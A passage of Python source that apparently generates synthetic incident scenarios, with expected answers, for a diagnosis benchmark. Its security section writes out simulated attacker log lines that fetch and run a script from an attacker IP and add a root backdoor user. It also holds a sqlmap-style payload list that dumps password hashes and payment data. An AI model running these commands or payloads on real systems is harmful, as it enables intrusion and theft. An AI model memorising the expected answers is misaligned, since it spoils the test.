                "terminating walsender process due to replication timeout",
                pid=rng.randint(1000, 60000),
            ),
            force=True,
        )
        rel = f"base/16384/{rng.randint(16000, 99999)}"
        message = f'could not extend file "{rel}": No space left on device'

        def call(comp: Component, d: str, at: datetime, r: random.Random) -> Problem | None:
            if d == db.name and _after(world, at) and r.random() < 0.7:
                world.log(
                    db.name,
                    Record(
                        at,
                        "error",
                        message,
                        fields={
                            "who": f"{comp.code.pkg if comp.code else 'app'}@shop",
                            "hint": "Check free disk space.",
                            "statement": f"INSERT INTO {comp.table} (id, created_at) VALUES ($1, now())",
                        },
                        pid=r.randint(1000, 60000),
                    ),
                )
                return Problem(
                    "sql",
                    "postgres",
                    db.dns,
                    db.ip,
                    5432,
                    sql_message=message,
                    sqlstate="53100",
                    py_class="DiskFull",
                    hint="Check free disk space.",
                    statement=f"INSERT INTO {comp.table} (id, created_at) VALUES ($1, now())",
                )
            return None

        world.faults.append(Fault(call=call))
        for at in world.times(20, world.onset, world.end):
            world.log(
                db.name,
                Record(
                    at,
                    "info",
                    'could not write to file "pg_stat_tmp/global.tmp": No space left on device',
                    pid=db.pid,
                ),
            )
        if world.flavour == "vm":
            # The database's machine reports the same filesystem: it fills with it.
            host_level = world.components[host].metrics["disk"][0]
            shape(
                world,
                host,
                "disk",
                climb_from,
                lambda v, m: min(100.0, host_level + (100 - host_level) * m / span),
            )
            world.expected_component = [db.name, host]
        else:  # a persistent volume: the node it is attached to has not filled up
            world.expected_component = [db.name]
        world.story = f"{db.name}'s data volume fills up (WAL kept for an abandoned replication slot)"
        culprit = db.name
        paged = rng.choice([c.name for c in _public(world)])
    else:
        svc = rng.choice(world.apps_with(lambda c: True))
        host = world.host_of[svc.name]
        start_level = world.components[host].metrics["disk"][0]
        span = (world.onset - climb_from).total_seconds() / 60
        shape(
            world,
            host,
            "disk",
            climb_from,
            lambda v, m: min(100.0, start_level + (100 - start_level) * m / span),
        )
        path = f"/var/lib/{svc.name}/exports/export-{rng.randint(100000, 999999)}.csv.tmp"

        def handle(comp: Component, route: Route, at: datetime, r: random.Random) -> Problem | None:
            if comp is svc and _after(world, at) and route.method != "GET" and r.random() < 0.95:
                return Problem("disk", file_path=path)
            return None

        world.faults.append(Fault(handle=handle))
        for at in world.times(30, world.onset, world.end):
            world.log(
                host,
                Record(
                    at,
                    "warning",
                    f"Failed to write entry ({rng.randint(9, 30)} items, "
                    f"{rng.randint(300, 900)} bytes), ignoring: No space left on device",
                    app="systemd-journald",
                    pid=312,
                    host=host,
                ),
                force=True,
            )
        world.expected_component = [svc.name, host]
        world.story = f"the disk of {host} fills with {svc.name}'s export files"
        culprit = svc.name
        paged = _paged(world, svc.name)
    world.expected_category = "infrastructure"
    _describe(world, [*ERROR_PAGES, "Orders failing to save", "{Svc}: writes failing"], paged)
    return {culprit}


def memory_leak_oom(world: World) -> set[str]:
    """A service's memory climbs for an hour until the kernel's OOM killer kills it; it restarts.

    The kernel log names the process (``java``, ``gunicorn``, ``node``, the Go binary), on its host;
    the service's memory metric shows the climb. Expected: the service (not the host), ``infrastructure``.
    """
    rng = world.rng
    svc = rng.choice(world.apps_with(lambda c: True))
    host = world.host_of[svc.name]
    climb_from = world.onset - timedelta(minutes=rng.uniform(45, 90))
    base = svc.metrics["mem"][0]
    limit = rng.choice([1024, 2048, 3072]) if base < 900 else 4096
    span = (world.onset - climb_from).total_seconds() / 60
    shape(
        world, svc.name, "mem", climb_from, lambda v, m: v + (limit - base) * min(1.0, m / span), world.onset
    )
    after_slope = (limit - base) / span
    restart_at = world.onset + timedelta(seconds=rng.uniform(20, 45))
    shape(world, svc.name, "mem", world.onset, lambda v, m: v * 0.7 + after_slope * m)
    shape(world, host, "mempct", climb_from, lambda v, m: min(97.0, v + 30 * min(1.0, m / span)), world.onset)
    svc.down.append((world.onset, restart_at, "refused"))
    proc = {"java": "java", "python": "gunicorn", "node": "node", "go": svc.name}[svc.stack]
    pid = svc.pid if svc.pid > 1 else rng.randint(2000, 60000)
    t = world.onset
    lines = [
        f"{proc} invoked oom-killer: gfp_mask=0xcc0(GFP_KERNEL), order=0, oom_score_adj=0",
        f"CPU: {rng.randint(0, 3)} PID: {pid} Comm: {proc} Not tainted 5.15.0-1051-aws #56~20.04.1-Ubuntu",
        "Hardware name: Amazon EC2 m5.xlarge/, BIOS 1.0 10/16/2017",
        "Call Trace:",
        " <TASK>",
        " dump_stack_lvl+0x4a/0x63",
        " dump_header+0x4a/0x1f4",
        " oom_kill_process.cold+0xb/0x10",
        " out_of_memory+0x1bd/0x500",
        " mem_cgroup_out_of_memory+0x136/0x150",
        " </TASK>",
        f"memory: usage {limit * 1024}kB, limit {limit * 1024}kB, failcnt {rng.randint(100, 5000)}",
        f"oom-kill:constraint=CONSTRAINT_MEMCG,nodemask=(null),cpuset=docker-{rng.randrange(16**12):012x}.scope,"
        f"mems_allowed=0,oom_memcg=/system.slice/docker-{rng.randrange(16**12):012x}.scope,task_memcg=/system.slice/"
        f"docker-{rng.randrange(16**12):012x}.scope,task={proc},pid={pid},uid=1000",
        f"Memory cgroup out of memory: Killed process {pid} ({proc}) "
        f"total-vm:{limit * 1024 * 2 + rng.randint(0, 99999)}kB,"
        f" anon-rss:{limit * 1024 - rng.randint(1000, 9000)}kB, file-rss:{rng.randint(1000, 30000)}kB, "
        "shmem-rss:0kB, "
        f"UID:1000 pgtables:{rng.randint(2000, 9000)}kB oom_score_adj:0",
    ]
    for i, text in enumerate(lines):
        at = t + timedelta(microseconds=i * 37)
        level = "error" if text.startswith("Memory cgroup") else "warning"
        world.log(
            host, Record(at, level, f"{world.kernel_uptime(at)} {text}", app="kernel", host=host), force=True
        )
    if world.flavour == "vm":
        unit = f"{svc.name}.service"
        for text in (
            f"{unit}: A process of this unit has been killed by the OOM killer.",
            f"{unit}: Main process exited, code=killed, status=9/KILL",
            f"{unit}: Failed with result 'oom-kill'.",
            f"{unit}: Scheduled restart job, restart counter is at 1.",
        ):
            world.log(
                host,
                Record(t + timedelta(seconds=1), "info", text, app="systemd", pid=1, host=host),
                force=True,
            )
    else:
        stamp = t.strftime("%m%d %H:%M:%S.") + f"{t.microsecond:06d}"
        world.log(
            host,
            Record(
                t + timedelta(seconds=2),
                "info",
                f'I{stamp}    1234 kubelet.go:2457] "SyncLoop (PLEG): '
                f'event for pod" pod="{world.namespace}/{svc.host}" '
                f'event={{"ID":"{rng.randrange(16**8):08x}",'
                '"Type":"ContainerDied"}',
                app="kubelet",
                pid=1234,
                host=host,
            ),
            force=True,
        )
    voice = svc.voice
    assert voice is not None
    if svc.stack == "python" and svc.writer == "gunicorn":
        world.log(
            svc.name,
            Record(
                t + timedelta(seconds=1),
                "error",
                f"Worker (pid:{pid}) was sent SIGKILL! Perhaps out of memory?",
                pid=1,
            ),
            force=True,
        )
    for rec in voice.startup(restart_at, svc.version):
        world.log(svc.name, rec, force=True)
    world.restarts.setdefault(svc.name, []).append(restart_at)

    def latency(comp: Component, at: datetime) -> float:
        if comp is svc and climb_from <= at < world.onset:
            frac = (at - climb_from).total_seconds() / (world.onset - climb_from).total_seconds()
            return 1.0 + 3.0 * max(0.0, frac - 0.75) * 4
        return 1.0

    world.faults.append(Fault(latency=latency))
    world.expected_component = [svc.name]
    world.expected_category = "infrastructure"
    world.story = f"{svc.name}'s memory climbs to its {limit} MB limit; the OOM killer kills {proc} on {host}"
    _describe(
        world,
        [
            "Intermittent 502s on {svc}",
            "{Svc} errors and restarts",
            "Alert: {svc} pod restarted",
            "Brief outage on {svc}, slow before that",
        ],
        _paged(world, svc.name),
    )
    return {svc.name}


# -- performance ---------------------------------------------------------------------------------


def cpu_saturation(world: World) -> set[str]:
    """A service's CPU pins at its limit (a runaway worker, no change shipped); latency climbs.

    Expected: the service, ``performance``.
    """
    rng = world.rng
    svc = rng.choice(world.apps_with(lambda c: True))
    factor = rng.uniform(4, 9)
    ramp = rng.uniform(1, 3)
    shape(
        world,
        svc.name,
        "cpu",
        world.onset,
        lambda v, m: min(99.5, 96 + rng.gauss(0, 1.2)) if m > ramp else v + (96 - v) * m / ramp,
    )
    shape(world, svc.name, "p99", world.onset, lambda v, m: v * (1 + (factor - 1) * min(1.0, m / ramp)))
    host = world.host_of[svc.name]
    shape(world, host, "cpu", world.onset, lambda v, m: min(99.0, v + 45 * min(1.0, m / ramp)))
    shape(world, host, "load", world.onset, lambda v, m: v + rng.uniform(6, 12) * min(1.0, m / ramp))

    def latency(comp: Component, at: datetime) -> float:
        if comp is svc and _after(world, at):
            m = (at - world.onset).total_seconds() / 60
            return 1 + (factor - 1) * min(1.0, m / ramp)
        return 1.0

    world.faults.append(Fault(latency=latency))
    voice = svc.voice
    assert voice is not None
    if svc.stack == "python":
        for at in world.times(rng.uniform(10, 25), world.onset + timedelta(minutes=ramp), world.end):
            world.log(
                svc.name,
                Record(
                    at,
                    "critical",
                    f"WORKER TIMEOUT (pid:{rng.randint(20, 400)})",
                    logger="gunicorn.error",
                    pid=1,
                ),
            )
    elif svc.stack == "java":
        for at in world.times(rng.uniform(4, 10), world.onset + timedelta(minutes=ramp), world.end):
            world.log(
                svc.name,
                Record(
                    at,
                    "warning",
                    "HikariPool-1 - Thread starvation or clock leap detected "
                    f"(housekeeper delta={rng.randint(31, 70)}s{rng.randint(1, 999)}ms).",
                    logger="com.zaxxer.hikari.pool.HikariPool",
                    thread="HikariPool-1 housekeeper",
                ),
            )
    elif svc.stack == "node":
        for at in world.times(rng.uniform(10, 20), world.onset + timedelta(minutes=ramp), world.end):
            world.log(
                svc.name,
                Record(at, "warning", "event loop blocked", fields={"blockedMs": rng.randint(400, 2500)}),
            )
    world.expected_component = [svc.name]
    world.expected_category = "performance"
    world.story = f"{svc.name}'s CPU pins at its limit (a runaway worker); p99 latency x{factor:.0f}"
    _describe(
        world,
        [
            "{Svc} latency high",
            "API response times increased 10x in last hour",
            "{Svc} slow",
            "Alert: p99 latency SLO burn on {svc}",
        ],
        _paged(world, svc.name),
    )
    return {svc.name}


def traffic_surge(world: World) -> set[str]:
    """A campaign sends five times the usual traffic to one service's routes, from many new clients.

    Latency and CPU climb, a share of requests run out of database connections. No change shipped.
    Expected: the service receiving the surge, ``performance``.
    """
    rng = world.rng
    svc = rng.choice(_public(world))
    mult = rng.uniform(4, 7)
    ramp = rng.uniform(1, 3)
    campaign = rng.choice(["winter-sale", "black-friday", "flash-deal", "newsletter-0105", "tv-spot"])
    fresh = [
        f"{rng.randint(24, 220)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
        for _ in range(1500)
    ]

    def level(at: datetime) -> float:
        m = (at - world.onset).total_seconds() / 60
        return 1 + (mult - 1) * min(1.0, max(0.0, m) / ramp) if m >= 0 else 1.0

    def weight(route: Route, at: datetime) -> float:
        return level(at) if route.service == svc.name else 1.0

    def request(route: Route, at: datetime, r: random.Random) -> dict[str, str] | None:
        if route.service == svc.name and _after(world, at) and r.random() < 1 - 1 / level(at):
            source = r.choice(["newsletter", "instagram", "facebook", "tv"])
            return {
                "client": r.choice(fresh),
                "agent": r.choice(USER_AGENTS),
                "query": f"utm_source={source}&utm_medium=campaign&utm_campaign={campaign}",
                "referer": "-" if source in ("newsletter", "tv") else f"https://www.{source}.com/",
            }
        return None

    def latency(comp: Component, at: datetime) -> float:
        if comp is svc and _after(world, at):
            return 1 + (level(at) - 1) * 0.9
        return 1.0

    def call(comp: Component, d: str, at: datetime, r: random.Random) -> Problem | None:
        if (
            comp is svc
            and d == world.db
            and _after(world, at)
            and r.random() < 0.1 * (level(at) - 1) / (mult - 1)
        ):
            return Problem("pool", "postgres", world.components[world.db].dns, pool_size=20)
        return None

    world.faults.append(Fault(weight=weight, request=request, latency=latency, call=call))
    shape(world, svc.name, "rps", world.onset, lambda v, m: v * level(world.onset + timedelta(minutes=m)))
    shape(
        world,
        world.gateway,
        "rps",
        world.onset,
        lambda v, m: v * (1 + 0.35 * (level(world.onset + timedelta(minutes=m)) - 1)),
    )
    shape(world, svc.name, "cpu", world.onset, lambda v, m: min(95.0, v * (1 + 1.6 * min(1.0, m / ramp))))
    shape(world, svc.name, "p99", world.onset, lambda v, m: v * (1 + 3.5 * min(1.0, m / ramp)))
    shape(world, svc.name, "pool", world.onset, lambda v, m: min(20.0, v * (1 + 3 * min(1.0, m / ramp))))
    shape(world, world.db, "tps", world.onset, lambda v, m: v * (1 + 1.5 * min(1.0, m / ramp)))
    shape(world, world.db, "cpu", world.onset, lambda v, m: min(90.0, v * (1 + 0.6 * min(1.0, m / ramp))))
    world.expected_component = [svc.name]
    world.expected_category = "performance"
    world.story = f"the {campaign} campaign sends x{mult:.1f} traffic to {svc.name} from ~1500 new clients"
    _describe(
        world,
        [
            "{Svc} slow during the sale",
            "Site slow, some requests failing",
            "{Svc} latency high",
            "Customers report the site is very slow",
        ],
        svc.name,
    )
    return {svc.name}


def pool_exhaustion(world: World) -> set[str]:
    """A slow report query keeps one service's connections busy: its pool times out, and the database
    hits ``max_connections`` so others are refused too. No change shipped.

    Expected: the service whose pool is exhausted, ``performance``.
    """
    rng = world.rng
    svc = rng.choice(world.apps_with(lambda c: True))
    db = world.components[world.db]
    who = f"{svc.code.pkg if svc.code else svc.name}@shop"
    pool = rng.choice([16, 20, 25])
    shape(world, svc.name, "pool", world.onset, lambda _v, _m: float(pool))
    shape(world, db.name, "conn", world.onset, lambda v, m: min(100.0, v + (100 - v) * min(1.0, m / 1.5)))
    shape(world, svc.name, "p99", world.onset, lambda v, m: v * 8)
    for at in world.times(rng.uniform(40, 80), world.onset - timedelta(minutes=1), world.end):
        world.log(
            db.name,
            Record(
                at,
                "info",
                f"duration: {rng.uniform(15000, 45000):.3f} ms  statement: SELECT "
                f"date_trunc('day', created_at) AS day, count(*), sum(total) FROM {svc.table} WHERE "
                "created_at > now() - interval '90 days' GROUP BY 1 ORDER BY 1",
                fields={"who": who},
                pid=rng.randint(1000, 60000),
            ),
        )
    for at in world.times(rng.uniform(30, 60), world.onset + timedelta(minutes=1), world.end):
        world.log(
            db.name,
            Record(
                at,
                "critical",
                "sorry, too many clients already",
                fields={"who": f"{rng.choice(world.apps).replace('-', '')}@shop"},
                pid=rng.randint(1000, 60000),
            ),
        )

    def call(comp: Component, d: str, at: datetime, r: random.Random) -> Problem | None:
        if d != world.db or not _after(world, at):
            return None
        if comp is svc and r.random() < 0.45:
            return Problem("pool", "postgres", db.dns, db.ip, 5432, pool_size=pool)
        if comp is not svc and at > world.onset + timedelta(minutes=1) and r.random() < 0.06:
            return Problem("too_many_clients", "postgres", db.dns, db.ip, 5432)
        return None

    def latency(comp: Component, at: datetime) -> float:
        return 5.0 if comp is svc and _after(world, at) else 1.0

    world.faults.append(Fault(call=call, latency=latency))
    if svc.stack == "java":
        for at in world.times(30, world.onset, world.end):
            world.log(
                svc.name,
                Record(
                    at,
                    "warning",
                    f"HikariPool-1 - Pool stats (total={pool}, "
                    f"active={pool}, idle=0, waiting={rng.randint(10, 60)})",
                    logger="com.zaxxer.hikari.pool.HikariPool",
                    thread="HikariPool-1 housekeeper",
                ),
            )
    world.expected_component = [svc.name]
    world.expected_category = "performance"
    world.story = f"a 90-day report query holds {svc.name}'s {pool} connections; its pool times out"
    _describe(
        world,
        ["{Svc} requests timing out", "{Svc} slow and returning errors", "Alert: high error rate on {svc}"],
        _paged(world, svc.name),
    )
    return {svc.name}


def lock_contention(world: World) -> set[str]:
    """A long batch transaction holds row locks on one service's table: its writes wait, time out
    on ``lock_timeout`` and sometimes deadlock. No change shipped.

    Expected: the service or its database (the contention is the service's workload inside the
    database), ``performance``.
    """
    rng = world.rng
    svc = rng.choice(world.apps_with(lambda c: any(r.method != "GET" for r in c.routes)))
    db = world.components[world.db]
    who = f"{svc.code.pkg if svc.code else svc.name}@shop"
    table = svc.table
    holder = rng.randint(1000, 60000)
    xid = rng.randint(10_000_000, 90_000_000)
    update = f"UPDATE {table} SET updated_at = now() WHERE id = $1"
    voice = svc.voice
    assert voice is not None
    job = rng.choice(["reconcile", "backfill-totals", "archive-old-rows"])
    world.log(
        svc.name,
        Record(
            world.onset - timedelta(seconds=rng.uniform(5, 30)),
            "info",
            f"Starting batch {job} on {table}",
            logger=voice.logger("jobs"),
            thread="batch-1" if svc.stack == "java" else "",
        ),
    )
    shape(world, db.name, "locks", world.onset, lambda v, m: v + rng.uniform(15, 40))
    shape(world, svc.name, "p99", world.onset, lambda v, m: v * rng.uniform(6, 12))

    def call(comp: Component, d: str, at: datetime, r: random.Random) -> Problem | None:
        if comp is not svc or d != world.db or not _after(world, at) or r.random() > 0.6:
            return None
        pid = r.randint(1000, 60000)
        tup = f"({r.randint(100, 9000)},{r.randint(1, 60)})"
        world.log(
            db.name,
            Record(
                at,
                "info",
                f"process {pid} still waiting for ShareLock on transaction {xid} after "
                f"1000.{r.randint(10, 999):03d} ms",
                fields={
                    "who": who,
                    "detail": f"Process holding the lock: {holder}. Wait queue: {pid}.",
                    "context": f'while updating tuple {tup} in relation "{table}"',
                    "statement": update,
                },
                pid=pid,
            ),
        )
        if r.random() < 0.12:
            other = r.randint(1000, 60000)
            world.log(
                db.name,
                Record(
                    at + timedelta(seconds=1),
                    "error",
                    "deadlock detected",
                    fields={
                        "who": who,
                        "detail": f"Process {pid} waits for ShareLock on transaction {xid}; blocked by "
                        "process "
                        f"{other}.\n\tProcess {other} waits for ShareLock on transaction {xid + 3}; blocked "
                        f"by process {pid}.",
                        "hint": "See server log for query details.",
                        "context": f'while updating tuple {tup} in relation "{table}"',
                        "statement": update,
                    },
                    pid=pid,
                ),
            )
            return Problem(
                "sql",
                "postgres",
                db.dns,
                db.ip,
                5432,
                sql_message="deadlock detected",
                sqlstate="40P01",
                py_class="DeadlockDetected",
                statement=update,
                detail=f"Process {pid} waits for ShareLock on transaction {xid}; blocked by process {other}.",
            )
        world.log(
            db.name,
            Record(
                at + timedelta(seconds=5),
                "error",
                "canceling statement due to lock timeout",
                fields={
                    "who": who,
                    "context": f'while updating tuple {tup} in relation "{table}"',
                    "statement": update,
                },
                pid=pid,
            ),
        )
        return Problem(
            "sql",
            "postgres",
            db.dns,
            db.ip,
            5432,
            sql_message="canceling statement due to lock timeout",
            sqlstate="55P03",
            py_class="LockNotAvailable",
            statement=update,
        )

    def latency(comp: Component, at: datetime) -> float:
        return 4.0 if comp is svc and _after(world, at) else 1.0

    world.faults.append(Fault(call=call, latency=latency))
    world.expected_component = [svc.name, db.name]
    world.expected_category = "performance"
    world.story = f"a long {job} transaction locks rows of {table}; {svc.name}'s updates wait and time out"
    _describe(
        world,
        ["{Svc} writes timing out", "{Svc} slow, some requests failing", "Alert: high error rate on {svc}"],
        _paged(world, svc.name),
    )
    return {svc.name}


# -- security ------------------------------------------------------------------------------------


def _attacker(rng: random.Random) -> str:
    return rng.choice(
        [
            f"203.0.113.{rng.randint(2, 254)}",
            f"198.51.100.{rng.randint(2, 254)}",
            f"185.220.{rng.randint(100, 103)}.{rng.randint(2, 254)}",
            f"45.{rng.randint(130, 159)}.{rng.randint(0, 255)}.{rng.randint(2, 254)}",
        ]
    )


def brute_force(world: World) -> set[str]:
    """Password guessing against the bastion's sshd from one address, then a successful login, sudo
    and a miner that pins the CPU.

    Expected: the bastion host (the target; the attacker's address is evidence), ``security``.
    """
    rng = world.rng
    assert world.bastion is not None
    h = world.bastion
    ip = _attacker(rng)
    account = rng.choice(["deploy", "ops", "backup", rng.choice(ENGINEERS)[1].split(".")[0]])
    invalid = ["admin", "root", "test", "oracle", "ubuntu", "support", "git", "jenkins"]
    t = world.onset
    length = (world.detected - world.onset).total_seconds() * rng.uniform(0.5, 0.85)
    end = t + timedelta(seconds=length)
    while t < end:
        pid = rng.randint(2000, 90000)
        port = rng.randint(30000, 65000)
        tries = rng.randint(3, 6)
        user = account if rng.random() < 0.7 else rng.choice(invalid)
        for i in range(tries):
            at = t + timedelta(seconds=i * rng.uniform(1.5, 3))
            text = (
                f"Failed password for {user} from {ip} port {port} ssh2"
                if user == account
                else f"Failed password for invalid user {user} from {ip} port {port} ssh2"
            )
            world.log(h, Record(at, "info", text, app="sshd", pid=pid, host=h))
        at = t + timedelta(seconds=tries * 2.5)
        if tries >= 6:
            world.log(
                h,
                Record(
                    at,
                    "info",
                    f"error: maximum authentication attempts exceeded for {user} from {ip} "
                    f"port {port} ssh2 [preauth]",
                    app="sshd",
                    pid=pid,
                    host=h,
                ),
            )
            world.log(
                h,
                Record(
                    at,
                    "info",
                    f"Disconnecting authenticating user {user} {ip} port {port}: Too many "
                    "authentication failures [preauth]",
                    app="sshd",
                    pid=pid,
                    host=h,
                ),
            )
        else:
            world.log(
                h,
                Record(
                    at,
                    "info",
                    f"PAM {tries - 1} more authentication failures; logname= uid=0 euid=0 "
                    f"tty=ssh ruser= rhost={ip}  user={user}",
                    app="sshd",
                    pid=pid,
                    host=h,
                ),
            )
            world.log(
                h,
                Record(
                    at,
                    "info",
                    f"Connection closed by authenticating user {user} {ip} port {port} [preauth]",
                    app="sshd",
                    pid=pid,
                    host=h,
                ),
            )
        t = at + timedelta(seconds=rng.uniform(0.5, 3))
    pid = rng.randint(2000, 90000)
    port = rng.randint(30000, 65000)
    session = rng.randint(1000, 9999)
    success = end + timedelta(seconds=rng.uniform(2, 20))
    uid = rng.randint(1002, 1020)
    for offset, app, text in (
        (0, "sshd", f"Accepted password for {account} from {ip} port {port} ssh2"),
        (0.01, "sshd", f"pam_unix(sshd:session): session opened for user {account}(uid={uid}) by (uid=0)"),
        (0.05, "systemd-logind", f"New session {session} of user {account}."),
        (
            40,
            "sudo",
            f"{account} : TTY=pts/1 ; PWD=/home/{account} ; USER=root ; COMMAND=/usr/bin/curl -fsSL "
            f"http://{ip}/k.sh -o /tmp/.k",
        ),
        (41, "sudo", f"pam_unix(sudo:session): session opened for user root(uid=0) by {account}(uid={uid})"),
        (55, "sudo", f"{account} : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash /tmp/.k"),
        (70, "useradd", "new user: name=sysd, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/1"),
        (75, "crontab", "(root) REPLACE (root)"),
    ):
        world.log(
            h,
            Record(
                success + timedelta(seconds=offset),
                "info" if app != "useradd" else "notice",
                text,
                app=app,
                pid=pid if app == "sshd" else rng.randint(2000, 90000),
                host=h,
            ),
        )
    miner = success + timedelta(seconds=90)
    shape(world, h, "cpu", miner, lambda _v, _m: 97 + rng.gauss(0, 1))
    shape(world, h, "load", miner, lambda v, _m: v + 7.5)
    world.expected_component = [h]
    world.expected_category = "security"
    world.story = (
        f"{ip} guesses passwords for '{account}' on {h} for ~{length / 60:.0f} min, gets in, escalates and "
        "starts a miner"
    )
    _describe(
        world,
        [
            f"High CPU on {h}",
            f"Unusual spike in failed login attempts on {h}",
            f"Security alert: new root cron job on {h}",
            f"{h} load average alert",
        ],
        h,
        severity=[None, "critical", "high"],
    )
    world.system = h if rng.random() < 0.3 else None
    return set()


#: sqlmap's progression against a PostgreSQL back end: (payload, PostgreSQL's error or None when the
#: query runs). ``{v}`` is the parameter's original value.
SQLI: list[tuple[str, str | None]] = [
    ("{v}'", 'unterminated quoted string at or near "\'"'),
    ("{v}' AND 1=1-- -", None),
    ("{v}' AND 1=2-- -", None),
    ("{v}') AND 4412=4412 AND ('kQmz'='kQmz", 'syntax error at or near ")"'),
    ("{v}' AND 4412=(SELECT 4412 FROM PG_SLEEP(5))-- -", None),
    ("{v}';SELECT PG_SLEEP(5)--", None),
    ("{v}' ORDER BY 7-- -", "ORDER BY position 7 is not in select list"),
    ("{v}' UNION ALL SELECT NULL,NULL,NULL-- -", "each UNION query must have the same number of columns"),
    (
        "{v}' AND 1=CAST((CHR(113)||CHR(122)||CHR(112)||CHR(106)||CHR(113))||(SELECT "
        "version())::text||(CHR(113)||"
        "CHR(118)||CHR(107)||CHR(120)||CHR(113)) AS NUMERIC)-- -",
        'invalid input syntax for type numeric: "qzpjqPostgreSQL 15.5 on x86_64-pc-linux-gnu, compiled by '
        "gcc (Debian "
        '12.2.0-14) 12.2.0, 64-bitqvkxq"',
    ),
    (
        "{v}' UNION ALL SELECT NULL,(CHR(113)||CHR(122)||CHR(112)||CHR(106)||CHR(113))||COALESCE(CAST(email "
        "AS "
        "VARCHAR(10000))::text,(CHR(32)))||(CHR(104)||CHR(106)||CHR(101))||COALESCE(CAST(password_hash AS "
        "VARCHAR(10000))::text,(CHR(32))),NULL,NULL,NULL FROM public.users-- -",
        None,
    ),
    (
        "{v}' UNION ALL SELECT NULL,string_agg(card_last4||':'||billing_email,','),NULL,NULL,NULL FROM "
        "public.payments-- -",
        None,
    ),
]


def _urlencode(text: str) -> str:
    out = []
    for ch in text:
        if ch.isalnum() or ch in "-_.":
            out.append(ch)
        elif ch == " ":
            out.append("%20")
        else:
            out.append(f"%{ord(ch):02X}")
    return "".join(out)


def sql_injection(world: World) -> set[str]:
    """sqlmap-style injection through a query parameter of one service: errors first, then UNION
    extraction answered 200 with bodies twenty times the usual size.

    Expected: the service attacked, ``security``.
    """
    rng = world.rng
    candidates = [(c, r) for c in _public(world) for r in c.routes if "?" in r.path and r.method == "GET"]
    if not candidates:
        candidates = [(c, r) for c in _public(world) for r in c.routes if r.method == "GET"]
    svc, route = rng.choice(candidates)
    voice = svc.voice
    assert voice is not None
    db = world.components[world.db]
    gw = world.components[world.gateway]
    base_path = route.path.split("?")[0]
    param = route.path.split("?")[1].split("=")[0] if "?" in route.path else "id"
    value = rng.choice(["1", "shoes", "c1042", "10115"])
    ip = _attacker(rng)
    agent = rng.choice(["sqlmap/1.7.12#stable (https://sqlmap.org)", USER_AGENTS[0], USER_AGENTS[3]])
    who = f"{svc.code.pkg if svc.code else svc.name}@shop"
    t = world.onset
    end = t + timedelta(minutes=rng.uniform(8, 14))
    i = 0
    while t < end:
        stage = min(len(SQLI) - 1, int(i / 6))
        template, pg_error = SQLI[stage if rng.random() < 0.8 else rng.randrange(len(SQLI))]
        payload = template.format(v=value)
        path = f"{base_path}?{param}={_urlencode(payload)}"
        sleep = "PG_SLEEP" in payload
        union_ok = pg_error is None and "UNION" in payload
        if pg_error is not None:
            status, size = 500, rng.randint(150, 400)
        elif union_ok:
            status, size = 200, rng.randint(180_000, 420_000)
        elif "AND 1=2" in payload:
            status, size = 200, rng.randint(40, 90)
        else:
            status, size = 200, int(route.size * rng.uniform(0.9, 1.1))
        ms = (5000 if sleep else route.ms) + rng.uniform(5, 60)
        gw.access.append(Access(t, ip, "GET", path, status, size, agent, ms / 1000 + 0.002, ms / 1000))
        statement = f"SELECT * FROM {svc.table} WHERE {param} = '{payload}' LIMIT 50"
        if pg_error is not None:
            at_char = statement.index(payload) + len(value) + 1
            world.log(
                db.name,
                Record(
                    t,
                    "error",
                    f"{pg_error} at character {at_char}",
                    fields={"who": who, "statement": statement},
                    pid=rng.randint(1000, 60000),
                ),
            )
            problem = Problem(
                "sql",
                "postgres",
                db.dns,
                db.ip,
                5432,
                sql_message=pg_error,
                sqlstate="42601",
                py_class="SyntaxError",
                statement=statement,
            )
            world.log(svc.name, voice.failure(t + timedelta(milliseconds=ms), "GET", path, problem))
            if svc.stack != "node":
                world.log(
                    svc.name, voice.request(t + timedelta(milliseconds=ms + 0.3), "GET", path, 500, ms, ip)
                )
        elif rng.random() < svc.log_sample + 0.2:
            world.log(svc.name, voice.request(t + timedelta(milliseconds=ms), "GET", path, status, ms, ip))
        t += timedelta(seconds=rng.uniform(0.8, 3.5))
        i += 1
    world.expected_component = [svc.name]
    world.expected_category = "security"
    world.story = (
        f"{ip} runs sqlmap against {base_path}?{param}= of {svc.name} and dumps tables with UNION queries"
    )
    _describe(
        world,
        [
            "Spike in 500s on {svc}",
            "Database errors from {svc}",
            "Unusual outbound data volume from {svc}",
            "Alert: {svc} response size anomaly",
        ],
        svc.name,
    )
    return {svc.name}


def credential_stuffing(world: World) -> set[str]:
    """Leaked credentials tried against the login endpoint from hundreds of proxies; a few succeed.

    Expected: the service attacked (the accounts service), ``security``.
    """
    rng = world.rng
    svc = world.components["accounts"]
    voice = svc.voice
    assert voice is not None
    gw = world.components[world.gateway]
    proxies = [
        f"{rng.randint(24, 220)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
        for _ in range(rng.randint(150, 400))
    ]
    agents = [
        f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/"
        f"{rng.randint(88, 110)}.0.{rng.randint(4000, 5500)}.{rng.randint(10, 200)} Safari/537.36"
        for _ in range(12)
    ]
    t = world.onset
    end = world.end
    rate = rng.uniform(0.2, 0.4)
    while t < end:
        ip = rng.choice(proxies)
        ok = rng.random() < 0.015
        status = 200 if ok else 401
        ms = rng.uniform(180, 420)
        gw.access.append(
            Access(
                t,
                ip,
                "POST",
                "/api/login",
                status,
                310 if ok else 96,
                rng.choice(agents),
                ms / 1000 + 0.002,
                ms / 1000,
            )
        )
        user = rng.randint(100000, 999999)
        if ok:
            world.log(
                svc.name,
                Record(
                    t,
                    "info",
                    f"login succeeded for user id={user} from new device",
                    logger=voice.logger("app"),
                    thread=voice.thread(),
                ),
            )
        else:
            world.log(
                svc.name,
                Record(
                    t,
                    "warning",
                    f"login failed for user id={user}: invalid password",
                    logger=voice.logger("app"),
                    thread=voice.thread(),
                ),
            )
        if rng.random() < svc.log_sample:
            world.log(
                svc.name, voice.request(t + timedelta(milliseconds=ms), "POST", "/api/login", status, ms, ip)
            )
        t += timedelta(seconds=rng.expovariate(rate))
    shape(world, svc.name, "rps", world.onset, lambda v, _m: v * rng.uniform(2.5, 4))
    shape(world, svc.name, "cpu", world.onset, lambda v, _m: min(92.0, v * 2.4))
